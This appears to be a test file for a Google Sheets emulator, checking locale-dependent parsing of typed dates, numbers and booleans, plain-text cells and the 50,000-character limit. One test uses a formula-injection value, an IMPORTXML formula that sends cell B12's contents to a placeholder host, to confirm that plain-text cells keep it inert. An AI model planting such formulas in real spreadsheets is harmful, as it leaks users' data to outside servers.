/**
 * Strings written with setValues are read as a person typing them into the cell would be,
 * in the spreadsheet's locale — dates and times included — unless the cell is plain text `@`
 * or the string starts with an apostrophe; and no cell takes more than 50,000 characters.
 */
import ExcelJS from 'exceljs';
import { openLocalSpreadsheet } from '../support/localSpreadsheet';

/** "Now" for these tests: 1 December 2026, 09:00 in Moscow. */
const NOW = Date.UTC(2026, 11, 1, 6);

function open(locale = 'ru_RU', timeZone = 'Europe/Moscow') {
  const workbook = new ExcelJS.Workbook();
  workbook.addWorksheet('Лист1');
  const { spreadsheet } = openLocalSpreadsheet(workbook, { locale, timeZone, now: () => NOW });
  return { sheet: spreadsheet.getSheetByName('Лист1')!, ws: workbook.getWorksheet('Лист1')! };
}

/** What the cell holds, as a calendar day and time in the spreadsheet's zone, or the value itself. */
function typed(locale: string, text: string, timeZone = 'Europe/Moscow') {
  const { sheet } = open(locale, timeZone);
  const range = sheet.getRange('A1');
  range.setValue(text);
  const value = range.getValue();
  const shown = range.getDisplayValues()[0][0];
  if (Object.prototype.toString.call(value) !== '[object Date]') return { value, shown };
  const wall = new Intl.DateTimeFormat('sv-SE', {
    timeZone,
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
    hour: '2-digit',
    minute: '2-digit',
    second: '2-digit',
  }).format(value as Date);
  return { date: wall, shown, format: range.getNumberFormats()[0][0] };
}

describe('dates typed into a cell, by the spreadsheet locale', () => {
  it.each([
    ['ru_RU', '07.12.2026', '2026-12-07 00:00:00', '07.12.2026'],
    ['ru_RU', '7.12.2026', '2026-12-07 00:00:00', '07.12.2026'],
    ['ru_RU', '07.12.26', '2026-12-07 00:00:00', '07.12.2026'],
    ['ru_RU', '07/12/2026', '2026-12-07 00:00:00', '07.12.2026'],
    ['ru_RU', '2026-12-07', '2026-12-07 00:00:00', '07.12.2026'],
    ['ru_RU', '07.12', '2026-12-07 00:00:00', '07.12.2026'], // the current year
    ['ru_RU', '1.5', '2026-05-01 00:00:00', '01.05.2026'], // a date in Russian, not one and a half
    ['ru_RU', '7 дек 2026', '2026-12-07 00:00:00', '07.12.2026'],
    ['ru_RU', '7 декабря 2026', '2026-12-07 00:00:00', '07.12.2026'],
    ['en_US', '07.12.2026', '2026-07-12 00:00:00', '7/12/2026'], // month first in the US
    ['en_US', '12/7/2026', '2026-12-07 00:00:00', '12/7/2026'],
    ['en_US', '2026-12-07', '2026-12-07 00:00:00', '12/7/2026'],
    ['en_US', 'Dec 7, 2026', '2026-12-07 00:00:00', '12/7/2026'],
    ['en_GB', '07/12/2026', '2026-12-07 00:00:00', '07/12/2026'],
  ])('in %s reads %j as the day %s', (locale, text, day, shown) => {
    expect(typed(locale, text)).toMatchObject({ date: day, shown });
  });

  it('reads a time of day and a timestamp with its time, dropping a zone suffix', () => {
    expect(typed('ru_RU', '9:30')).toMatchObject({ shown: '9:30:00' });
    expect(typed('ru_RU', '2026-12-07T06:00:00.000Z')).toMatchObject({ date: '2026-12-07 06:00:00' });
    expect(typed('ru_RU', '07.12.2026 14:05')).toMatchObject({ date: '2026-12-07 14:05:00' });
  });

  it('gives a typed date a date format only when the cell has none of its own', () => {
    const { sheet } = open();
    const range = sheet.getRange('A1');
    range.setNumberFormats([['yyyy-mm-dd']]).setValue('07.12.2026');
    expect(range.getDisplayValues()[0][0]).toBe('2026-12-07');
  });

  it('keeps date-like text in a plain-text cell or behind an apostrophe', () => {
    const { sheet } = open();
    sheet
      .getRange('A1:B1')
      .setNumberFormats([['@', 'General']])
      .setValues([['07.12.2026', "'07.12.2026"]]);
    expect(sheet.getRange('A1:B1').getValues()).toEqual([['07.12.2026', '07.12.2026']]);
  });
});

describe('numbers, booleans and formulas typed into a cell', () => {
  it.each([
    ['ru_RU', '0012', 12],
    ['ru_RU', ' 12 ', 12], // trimmed, as Sheets trims what was typed
    ['ru_RU', '+12', 12],
    ['ru_RU', '1,5e3', 1500],
    ['ru_RU', '40702810900000012345', Number('40702810900000012345')], // a bank account loses its digits
    ['en_US', '1.5', 1.5],
  ])('in %s reads %j as the number %p', (locale, text, value) => {
    expect(typed(locale, text).value).toBe(value);
  });

  it.each([
    ['ru_RU', 'TRUE', true, 'ИСТИНА'],
    ['ru_RU', 'ложь', false, 'ЛОЖЬ'],
    ['en_US', 'true', true, 'TRUE'],
  ])('in %s reads %j as the boolean %p, shown as %j', (locale, text, value, shown) => {
    expect(typed(locale, text)).toEqual({ value, shown });
  });

  it('turns a client named like a formula into a live formula unless the cell is plain text', () => {
    const { sheet, ws } = open();
    const name = '=IMPORTXML("http://x"&B12)';
    sheet.getRange('A1').setValue(name);
    sheet
      .getRange('A2')
      .setNumberFormats([['@']])
      .setValue(name);
    expect(ws.getCell('A1').formula).toBe('IMPORTXML("http://x"&B12)');
    expect(sheet.getRange('A2').getValue()).toBe(name);
  });
});

describe('the 50,000-character cell limit', () => {
  const message = 'Your input contains more than the maximum of 50000 characters in a single cell.';

  it('takes 50,000 characters and refuses 50,001 with Google’s message', () => {
    const { sheet } = open();
    sheet.getRange('A1').setValue('я'.repeat(50_000));
    expect(String(sheet.getRange('A1').getValue())).toHaveLength(50_000);
    expect(() => sheet.getRange('A2').setValue('я'.repeat(50_001))).toThrow(message);
  });

  it('writes no cell of a setValues call that holds one string too long', () => {
    const { sheet } = open();
    expect(() => sheet.getRange('A1:B1').setValues([['короткий', 'x'.repeat(50_001)]])).toThrow(message);
    expect(sheet.getRange('A1').getValue()).toBe('');
  });
});
